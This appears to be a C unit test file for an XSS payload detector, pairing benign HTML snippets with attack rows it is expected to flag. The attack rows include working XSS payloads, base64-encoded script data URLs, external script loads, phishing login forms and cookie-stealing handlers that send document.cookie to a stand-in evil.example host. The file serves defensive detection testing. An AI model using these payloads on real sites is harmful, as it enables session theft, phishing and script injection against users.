/* test_payload_r10x.c - issue 21, helper x (the tenth XSS red team): rows
 * of its tables' findings. Benign rows: rich text that shows markup as
 * escaped text inside real tags (<pre><code>&lt;script&gt;), a video or
 * sound file embedded by <object>, a Markdown link to an SVG data URL
 * that holds no script. Attacks beside each draw XSS as a query value and
 * a form body and reach the kill line (payload_rt_table.h), except the
 * rows told below it (a login form posting to a named host). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define X PAYLOAD_XSS
#define N PAYLOAD_NONE

/* markup escaped as text inside real tags is shown, not parsed: the
 * entities are text to the browser; the literal tags are still judged */
static void test_escaped_markup_in_tags(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>", N},
		{"<pre><code class=\"language-html\">&lt;img src=x onerror=alert(1)&gt;</code></pre>", N},
		{"<p>Never write &lt;script&gt;eval(userInput)&lt;/script&gt; in a template.</p>", N},
		{"<code>&lt;a href=&quot;javascript:void(0)&quot; onclick=&quot;toggle()&quot;&gt;</code>", N},
		{"<pre>&#60;svg onload=alert(1)&#62;</pre>", N},
		{"<pre><code>&lt;b&gt;x&lt;/b&gt;</code></pre><img src=x onerror=alert(1)>", X},
		{"<p>&lt;x&gt;</p><svg onload=alert&lpar;1&rpar;>", X},
		{"<p>&lt;</p><a href=\"jav&#x09;ascript:alert(1)\">x</a>", X},
		{"<p>&lt;</p><a href=\"javascript&colon;alert(1)\">x</a>", X},
		{"<p>&lt;</p><img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", X},
		{"<p>&lt;</p><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", X},
		{"&lt;script&gt;alert(document.domain)&lt;/script&gt;", X},
		/* foreign, raw-text and island elements write their text back
		 * unescaped: a mutation */
		{"<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>", X},
		{"<noscript><b>&lt;img src=x onerror=alert(1)&gt;</b></noscript>", X},
		{"<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>", X},
	};
	rt_run_kill("escaped markup", X, t, sizeof(t) / sizeof(t[0]));
}

/* <object>/<embed> of a video, sound or PDF file: told, not killed */
static void test_media_object(void **st)
{
	(void)st;
	static const char *const told[] = {
		"<object data=\"movie.mp4\" type=\"video/mp4\"></object>",
		"<object data=movie.mp4>",
		"<embed src=\"/media/song.mp3\" type=\"audio/mpeg\" width=\"300\" height=\"40\">",
		"<object data=\"https://cdn.example.com/v/intro.webm\" type=\"video/webm\" width=\"640\" height=\"360\"></object>",
	};
	static const struct rtcase t[] = {
		{"<object data=movie.mp4 onerror=alert(1)>", X},
		{"<object data=//evil.example/x.html>", X},
		{"<object data=x.mp4 type=text/html>", X},
		{"<object data=\"data:text/html,<script>alert(1)</script>\">", X},
		{"<embed src=x.swf allowscriptaccess=always>", X},
	};
	rt_below_kill("media object", told, sizeof(told) / sizeof(told[0]));
	rt_run_kill("media object attacks", X, t, sizeof(t) / sizeof(t[0]));
}

/* a data: SVG or page whose base64 holds no script runs nothing */
static void test_inert_data_svg(void **st)
{
	(void)st;
	static const char *const told[] = {
		"[logo](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)",
		"[icon](data:image/svg+xml;base64,PHN2ZyB3aWR0aD0iMTAiIGhlaWdodD0iMTAiPjxjaXJjbGUgcj0iNSIvPjwvc3ZnPg==)",
	};
	static const struct rtcase t[] = {
		/* <svg onload=alert(1)> */
		{"[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", X},
		{"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", X},
		{"[x](data:image/svg+xml,<svg onload=alert(1)>)", X},
		/* <svg><script>alert(1)</script></svg> */
		{"[x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+)", X},
	};
	static const struct rtcase u[] = {
		{"<img src=\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'/>\">", N},
		{"<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\">", N},
		{"<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", X},
		{"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", X},
		{"<math href='data:image/svg+xml;base64,PHN2Zz4='>x</math>", X},
		{"<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", X},
	};
	rt_below_kill("inert data svg", told, sizeof(told) / sizeof(told[0]));
	rt_run_kill("data svg in attributes", X, u, sizeof(u) / sizeof(u[0]));
	rt_run_kill("active data svg", X, t, sizeof(t) / sizeof(t[0]));
}

/* a dialog or eval sink reached through bind, Reflect or a window
 * property read by a computed name */
static void test_sink_indirect(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"alert.bind()(1)", X},
		{"alert.bind(null,1)()", X},
		{"Reflect.get(window,'al'+'ert')(1)", X},
		{"Reflect.apply(alert,window,[1])", X},
		{"x.bind(this)()", N},
		{"Use fn.bind(this) in the constructor", N},
		{"Reflect.get(target, prop, receiver)", N},
	};
	rt_run_kill("sink indirect", X, t, sizeof(t) / sizeof(t[0]));
}

/* <svg><use href=...> pulls another document's SVG into the page */
static void test_svg_use(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<svg><use href=//evil.example/x.svg#a>", X},
		{"<svg><use xlink:href=\"https://evil.example/x.svg#x\"></use></svg>", X},
		{"<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x\"/></svg>", X},
		{"<svg class=\"icon\"><use href=\"#icon-search\"></use></svg>", N},
		{"<svg><use xlink:href=\"/static/sprite.svg#menu\"></use></svg>", N},
	};
	rt_run_kill("svg use", X, t, sizeof(t) / sizeof(t[0]));
}

/* a value that is evidently base64 and carries markup */
static void test_base64_markup(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", X},
		{"PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==", X},
		{"PHN2Zy9vbmxvYWQ9YWxlcnQoZG9jdW1lbnQuY29va2llKT4=", X},
		/* "><script>alert(1)</script> */
		{"Ij48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+", X},
		/* <p>Hello <b>world</b></p> */
		{"PHA+SGVsbG8gPGI+d29ybGQ8L2I+PC9wPg==", N},
	};
	rt_run_kill("base64 markup", X, t, sizeof(t) / sizeof(t[0]));
}

/* a login form that posts to a named host of another site: told */
static void test_form_named_host(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<form action=//evil.example/login method=post><input type=password name=pw><input type=submit value=Login></form>", X},
		{"<form action=\"https://login.evil.example/\"><input name=user><input type=\"password\" name=\"pass\"></form>", X},
		{"<form action=\"/login\" method=\"post\"><input type=\"password\" name=\"password\"></form>", N},
		{"<form action=\"https://example.com/search\"><input name=q></form>", N},
	};
	rt_run("form named host", t, sizeof(t) / sizeof(t[0]));
}

/* a third party's embed snippet pasted into a CMS field: told; a
 * probe's external script keeps the kill */
static void test_embed_script(void **st)
{
	(void)st;
	static const char *const told[] = {
		"<blockquote class=\"twitter-tweet\"><p lang=\"en\" dir=\"ltr\">Launch day!</p>&mdash; Example (@example) <a href=\"https://twitter.com/example/status/1\">May 1, 2024</a></blockquote> <script async src=\"https://platform.twitter.com/widgets.js\" charset=\"utf-8\"></script>",
		"<blockquote class=\"instagram-media\"><a href=\"https://www.instagram.com/p/x/\">post</a></blockquote> <script async src=\"https://www.instagram.com/embed.js\"></script>",
		"<blockquote class=\"tiktok-embed\" cite=\"https://www.tiktok.com/@a/video/1\" data-video-id=\"1\"><section></section></blockquote> <script async src=\"https://www.tiktok.com/embed.js\"></script>",
	};
	/* async on its own, or deferred, is how collections write a probe
	 * (the review r10b: one added word took it from a kill to told) */
	static const struct rtcase t[] = {
		{"<script src=https://evil.example/x.js></script>", X},
		{"<script async src=//evil.example/x.js></script>", X},
		{"<script async src=\"https://evil.example/x.js\"></script>", X},
		{"<script async src=\"https://platform.twitter.com/widgets.js\" charset=\"utf-8\"></script>", X},
		{"<script defer src=\"https://evil.example/x.js\"></script>", X},
		{"<p>see</p><script async src=https://evil.example/x.js></script>", X},
		{"<blockquote>x</blockquote><script defer src=\"https://evil.example/x.js\"></script>", X},
		{"<script async src=\"https://evil.example/x.js\">alert(1)</script>", X},
		{"<script async src=\"https://203.0.113.9/x.js\"></script>", X},
		{"<script async src=\"https://a.example/x.js\" onload=alert(1)></script>", X},
		{"<script defer src=\"https://a.example@evil.example/x.js\"></script>", X},
	};
	rt_run_kill("embed script attacks", X, t, sizeof(t) / sizeof(t[0]));
	rt_below_kill("embed script", told, sizeof(told) / sizeof(told[0]));
}

/* a quoted handler whose statements stay on the element or the site: a
 * fallback image, a style or class of its own, history.back(), a path of
 * the site; a sink, markup, a script URL or another host keep the kill */
static void test_self_handler(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<img src=\"avatar.png\" onerror=\"this.src='/img/default-avatar.png'\">", N},
		{"<img src=\"/img/a.png\" onerror=\"this.onerror=null;this.style.display='none'\">", N},
		{"<img src=\"photo.jpg\" onload=\"this.classList.add('loaded')\">", N},
		{"<button type=\"button\" onclick=\"history.back()\">Back</button>", N},
		{"<div onclick=\"location.href='/products/42'\">Product</div>", N},
		{"<tr onclick=\"window.location='/orders/1001'\">", N},
		{"<img src=x onerror=\"this.src='javascript:alert(1)'\">", X},
		{"<img src=x onerror=\"this.onerror=null;alert(1)\">", X},
		{"<img src=x onerror=\"this.src='//evil.example/?'+document.cookie\">", X},
		{"<svg onload=\"location='/'+document.cookie\">", X},
		{"<x onclick=\"location.href='//evil.example'\">x</x>", X},
		{"<x onmouseover=\"this.innerHTML='<img src=x onerror=alert(1)>'\">x</x>", X},
		{"<x onclick=\"this.outerHTML=name\">x</x>", X},
		{"<img src=x onerror=this.src='/a.png';alert(1)>", X},
		{"\" onfocus=\"history.back()\" autofocus onblur=\"alert(1)", X},
	};
	rt_run_kill("self handler", X, t, sizeof(t) / sizeof(t[0]));
}

/* a meta refresh that reloads the page or moves to a path of the site;
 * to another host, a script or data URL it stays a kill */
static void test_site_refresh(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<meta http-equiv=\"refresh\" content=\"30\">", N},
		{"<meta http-equiv=\"refresh\" content=\"0; url=/new-page\">", N},
		{"<meta http-equiv=\"refresh\" content=\"5;URL=index.html\">", N},
		{"<meta http-equiv=refresh content=\"0;url=//evil.example\">", X},
		{"<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">", X},
		{"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">", X},
		{"<meta http-equiv=refresh content=0;url=/\\evil.example>", X},
		{"<meta http-equiv=refresh content=\"0;url=evil.example:8080/x\">", X},
	};
	rt_run_kill("site refresh", X, t, sizeof(t) / sizeof(t[0]));
}

/* a quoted handler that calls the page's own helpers with literals: told
 * (a CMS page's markup); a sink, a window function, a member path, a
 * string built or a call in the arguments keep the kill */
static void test_page_call_handler(void **st)
{
	(void)st;
	static const char *const told[] = {
		"<a href=\"#\" onclick=\"toggleMenu(); return false;\">Menu</a>",
		"<form onsubmit=\"return validateForm()\">",
		"<select onchange=\"this.form.submit()\">",
		"<body onload=\"init()\">",
		"<a href=\"javascript:void(0);\" onclick=\"openModal('signup')\">Sign up</a>",
		"<a href=\"https://example.com\" onclick=\"gtag('event','click',{event_category:'outbound'})\">Go</a>",
	};
	static const struct rtcase t[] = {
		{"<x onclick=\"foo(document.cookie)\">x</x>", X},
		{"<x onclick=\"f('a'+document.domain)\">x</x>", X},
		{"<x onclick=\"eval('x')\">x</x>", X},
		{"<x onclick=\"top.foo()\">x</x>", X},
		{"<x onclick=\"foo(alert)\">x</x>", X},
		{"<x onclick=\"Function('alert(1)')()\">x</x>", X},
		{"<svg onload=\"setTimeout('alert(1)')\">", X},
		{"<x onclick=\"foo(bar(1))\">x</x>", X},
		{"<x onclick=\"return confirm(1)\">x</x>", X},
		{"<x onclick=\"return confirm('XSS')\">x</x>", X},
		{"<x onclick=\"return confirm(document.domain)\">x</x>", X},
		{"<x onclick=\"return confirm('are you sure?');alert(1)\">x</x>", X},
		{"<x onclick=\"jQuery.getScript('//evil.example/x.js')\">x</x>", X},
		{"<img src=x onerror=\"init();alert(1)\">", X},
		{"<img src=x onerror=init()>", X},
		{"\" onmouseover=\"init()\" onfocus=\"alert(1)\" autofocus x=\"", X},
	};
	rt_below_kill("page call handler", told, sizeof(told) / sizeof(told[0]));
	rt_run_kill("page call attacks", X, t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_escaped_markup_in_tags),
		cmocka_unit_test(test_media_object),
		cmocka_unit_test(test_inert_data_svg),
		cmocka_unit_test(test_sink_indirect),
		cmocka_unit_test(test_svg_use),
		cmocka_unit_test(test_base64_markup),
		cmocka_unit_test(test_form_named_host),
		cmocka_unit_test(test_embed_script),
		cmocka_unit_test(test_self_handler),
		cmocka_unit_test(test_site_refresh),
		cmocka_unit_test(test_page_call_handler),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
